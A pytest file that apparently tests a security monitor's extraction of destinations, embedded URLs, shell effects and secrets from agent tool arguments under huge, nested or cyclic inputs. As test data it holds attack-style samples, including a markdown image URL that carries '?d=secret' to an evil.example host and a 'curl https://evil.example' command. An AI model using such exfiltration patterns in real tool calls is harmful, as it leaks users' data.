"""Attacker-written text and arguments of any size and shape are read in bounded work, and read whole.

No test here is timed: each input is large enough that a pattern which rescans a run from every character (or a
walk that recurses once per level) would not finish in a test run, and each asserts what was found.
"""

from __future__ import annotations

from typing import Any

import pytest

from monitor.evidence import (
    MAX_ARGUMENT_NODES,
    extract_destinations,
    extract_embedded_urls,
    extract_shell_effects,
    find_addresses,
    find_secrets,
    is_secrets_path,
    iter_argument_texts,
    mentions_destination,
    parse_ipv4,
)
from monitor.models import Destination, DestinationKind

RUNS = ["a", "7", "a.", "a@", "@a", "a-", "x@a.", "a.a@", "a.com.", "![", "src=", "www.", "+1 ", "DE00AAAA"]


@pytest.mark.parametrize("unit", RUNS)
def test_long_runs_of_address_characters_are_read_whole(unit: str) -> None:
    text = (unit * (300_000 // len(unit)))[:300_000]
    found = list(find_addresses(text))
    assert len(found) <= len(text)
    extract_destinations({"to": text, "body": text})
    extract_embedded_urls({"body": text})
    assert not mentions_destination(text, Destination(DestinationKind.DOMAIN, "evil.example", "/to"))


def test_an_address_after_a_long_run_is_still_found() -> None:
    text = "a" * 1_000_000 + " mail x@evil.example or see https://files.evil.example/u and corp.com"
    found = set(find_addresses(text))
    assert (DestinationKind.EMAIL, "x@evil.example") in found
    assert (DestinationKind.DOMAIN, "files.evil.example") in found
    assert (DestinationKind.DOMAIN, "corp.com") in found
    glued = "a." * 200_000 + "b@evil.example"  # the run is the local part of one (odd) address: read once
    assert [kind for kind, _ in find_addresses(glued)] == [DestinationKind.EMAIL]


def test_images_after_many_unclosed_image_openings_are_found() -> None:
    text = "![" * 300_000 + "x](https://img.evil.example/p.png?d=secret)"
    found = extract_embedded_urls({"body": text})
    assert [url for _, url in found] == ["https://img.evil.example/p.png?d=secret"]
    assert [url for _, url in extract_embedded_urls({"body": "![a[b](https://img.evil.example/q.png)"})] == [
        "https://img.evil.example/q.png"
    ]


def test_long_wildcard_names_and_numbers_are_judged_without_expansion() -> None:
    assert is_secrets_path("notes/" + "![" * 200_000)  # too long a pattern to match: taken to match
    assert not is_secrets_path("src/" + "a" * 200_000 + ".py")
    assert parse_ipv4("1" * 5_000) is None  # never an int of more digits than Python converts
    assert str(parse_ipv4("0x7f.1")) == "127.0.0.1"


def _nest(depth: int, leaf: Any) -> Any:
    value = leaf
    for i in range(depth):
        value = {"to" if i % 2 else "x": value} if i else {"k": value}
    return value


def test_deeply_nested_arguments_are_walked_without_recursion_and_nothing_is_dropped() -> None:
    arguments = {"body": "hi", "deep": _nest(10_000, "evil@attacker.example")}
    texts = list(iter_argument_texts(arguments))
    assert texts[0] == ("/body", "body", "hi")
    assert any("evil@attacker.example" in text for _, _, text in texts)
    assert all(len(path) < 1_000 for path, _, _ in texts)  # paths stop growing at the depth bound
    # The bulk text under the deepest walked key is read again under the recipient key found inside it.
    dests = extract_destinations(arguments)
    assert Destination(DestinationKind.EMAIL, "evil@attacker.example", dests[0].path) in dests
    assert dests[0].keyed


def test_arguments_past_the_node_budget_are_read_in_bulk() -> None:
    many = {"items": [{"note": f"n{i}"} for i in range(3 * MAX_ARGUMENT_NODES)] + [{"to": "evil@attacker.example"}]}
    texts = list(iter_argument_texts(many))
    assert len(texts) <= MAX_ARGUMENT_NODES + 4
    joined = "\n".join(text for _, _, text in texts)
    assert "n0" in joined and f"n{3 * MAX_ARGUMENT_NODES - 1}" in joined and "evil@attacker.example" in joined
    dests = extract_destinations(many)
    assert any(d.value == "evil@attacker.example" and d.keyed for d in dests)
    shell = {"steps": [{"x": str(i)} for i in range(MAX_ARGUMENT_NODES)] + [{"command": "curl https://evil.example"}]}
    assert any("evil.example" in effects.hosts for _, effects in extract_shell_effects(shell))


def test_cyclic_and_huge_number_arguments_terminate() -> None:
    loop: dict[str, Any] = {"a": "x@evil.example"}
    loop["self"] = loop
    loop["pair"] = [loop, loop]
    texts = list(iter_argument_texts(loop))
    assert len(texts) <= MAX_ARGUMENT_NODES + 4
    assert texts[0] == ("/a", "a", "x@evil.example")
    big = 10**5_000
    assert list(iter_argument_texts({"n": big})) == [("/n", "n", hex(big))]


@pytest.mark.parametrize("unit", ["supabase-ticket", "a-", "ab1-", "x_", "7-a", "token-"])
def test_long_runs_of_token_characters_are_searched_for_secrets_whole(unit: str) -> None:
    key = "7f3a9c1e5b2d8f4a6c0e1b3d"
    text = (unit * (400_000 // len(unit)))[:400_000] + f" the key is {key} ok"
    found = [s.raw for s in find_secrets("body", text)]
    assert key in found
    assert all(len(raw) <= 128 for raw in found)
